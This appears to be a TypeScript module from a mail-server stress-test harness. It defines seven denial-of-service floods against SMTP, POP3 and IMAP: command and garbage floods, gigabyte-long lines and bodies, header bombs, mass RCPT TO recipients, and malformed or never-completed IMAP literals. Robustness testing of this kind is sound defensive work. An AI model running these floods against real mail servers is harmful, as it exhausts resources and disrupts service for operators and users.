/** Who is loud: commands, garbage, lines and headers without end, recipients without number. */
import { randomBytes } from 'node:crypto'
import { type Attack, DOORS, imap, inData, over, Raw } from './attack.ts'

const MB = 1_048_576

/** How much was taken before the server had enough. */
async function pour(raw: Raw, piece: string | Uint8Array, mostOctets: number, left: () => number) {
  let octets = 0
  for (; octets < mostOctets && !raw.gone && left() > 0; octets += piece.length) {
    await raw.write(piece)
  }
  return octets
}

const commands: Attack = {
  name: 'command-flood',
  run: async (victim, time) => {
    const kinds = [
      ['smtp', 'NOOP\r\n'],
      ['smtp', 'EHLO flood.example\r\n'],
      ['smtp', 'VRFY joe\r\n'],
      ['smtp', 'MAIL FROM:<a@b.example>\r\nRSET\r\n'],
      ['pop3', 'CAPA\r\n'],
      ['imap', 'a CAPABILITY\r\n'],
      ['imap', 'a NOOP\r\n'],
      ['smtp', '\r\n'],
    ] as const
    let octets = 0
    await over(time, 8, async () => {
      const [door, line] = kinds[Math.floor(Math.random() * kinds.length)] ?? kinds[0]
      const raw = await Raw.to(victim, door)
      octets += await pour(raw, line.repeat(2000), 2 * MB, time.left)
      raw.end()
    })
    return { mb: Math.round(octets / MB) }
  },
}

const garbage: Attack = {
  name: 'garbage',
  run: async (victim, time) => {
    let n = 0
    let octets = 0
    await over(time, 10, async () => {
      const raw = await Raw.to(victim, DOORS[n++ % DOORS.length] as string)
      octets += await pour(raw, randomBytes(16_384), MB, time.left)
      raw.end()
    })
    return { mb: Math.round(octets / MB), connections: n }
  },
}

const endless: Attack = {
  name: 'endless-line',
  run: async (victim, time) => {
    let n = 0
    let octets = 0
    const piece = Buffer.alloc(MB, 'x')
    await over(time, 4, async () => {
      const raw = await Raw.to(victim, DOORS[n++ % DOORS.length] as string)
      octets += await pour(raw, piece, 1024 * MB, time.left)
      raw.end()
    })
    return { mb: Math.round(octets / MB), connections: n }
  },
}

/** A body without a line end is legal, but for its length; one GB is not. */
const endlessBody: Attack = {
  name: 'endless-body',
  run: async (victim, time) => {
    let octets = 0
    const piece = Buffer.alloc(MB, 'x')
    await over(time, 3, async () => {
      const raw = await inData(victim)
      octets += await pour(raw, piece, 1024 * MB, time.left)
      raw.end()
    })
    return { mb: Math.round(octets / MB) }
  },
}

const headers: Attack = {
  name: 'header-bomb',
  run: async (victim, time) => {
    const shapes = [
      `X-${'y'.repeat(900)}: z\r\n`,
      'a:\r\n',
      `${' '.repeat(70)}\r\n`,
      'Received: x\r\n',
      `To: ${'a@b.example,'.repeat(70)}\r\n`,
    ]
    let octets = 0
    let n = 0
    await over(time, 3, async () => {
      const raw = await inData(victim)
      await raw.write('Subject: x\r\n')
      octets += await pour(
        raw,
        (shapes[n++ % shapes.length] ?? '').repeat(1000),
        10 * MB,
        time.left,
      )
      await raw.say('\r\n.', /^\d\d\d /m)
      raw.end()
    })
    return { mb: Math.round(octets / MB), messages: n }
  },
}

const recipients: Attack = {
  name: 'recipients',
  run: async (victim, time) => {
    let count = 0
    await over(time, 3, async () => {
      const raw = await Raw.to(victim, 'smtp')
      await raw.say('EHLO x\r\nMAIL FROM:<joe@remote.example>', /^250 2/m)
      for (let n = 0; n < 100_000 && !raw.gone && time.left() > 0; n += 1000) {
        const group = Array.from({ length: 1000 }, (_, m) =>
          m % 2 === 0
            ? `RCPT TO:<${victim.address}>`
            : `RCPT TO:<u${n + m}@${victim.address.split('@')[1]}>`,
        )
        await raw.write(`${group.join('\r\n')}\r\n`)
        count += 1000
      }
      raw.end()
    })
    return { recipients: count }
  },
}

/** Literals that are announced and never come, come in nothings, or without having been asked for. */
const literals: Attack = {
  name: 'literals',
  run: async (victim, time) => {
    let octets = 0
    const waiting: Raw[] = []
    for (let n = 0; n < 10 * time.scale; n++) {
      const raw = await imap(victim)
      await raw.write('c SEARCH TEXT {1000000}\r\n')
      await raw.write(Buffer.alloc(990_000, 'x'))
      waiting.push(raw)
    }
    const chain = `${'x'.repeat(60_000)} {0+}\r\n`.repeat(16)
    const shapes: readonly (readonly [boolean, string, string])[] = [
      [false, 'a LOGIN ', chain],
      [true, 'a SEARCH OR ', chain],
      [true, 'a APPEND INBOX {4294967295+}\r\n', 'y'.repeat(MB)],
      [true, 'a STORE 1 FLAGS (', '{0+}\r\n'.repeat(10_000)],
      [true, 'a LIST "" (', '"" {1+}\r\nx '.repeat(10_000)],
    ]
    let n = 0
    await over(time, 3, async () => {
      const [known, start, piece] = shapes[n++ % shapes.length] ?? [false, '', '']
      const raw = known ? await imap(victim) : await Raw.to(victim, 'imap')
      await raw.write(start)
      octets += await pour(raw, piece, 64 * MB, time.left)
      raw.end()
    })
    for (const raw of waiting) raw.end()
    return { mb: Math.round(octets / MB), sessions: n }
  },
}

export const floods: readonly Attack[] = [
  commands,
  garbage,
  endless,
  endlessBody,
  headers,
  recipients,
  literals,
]
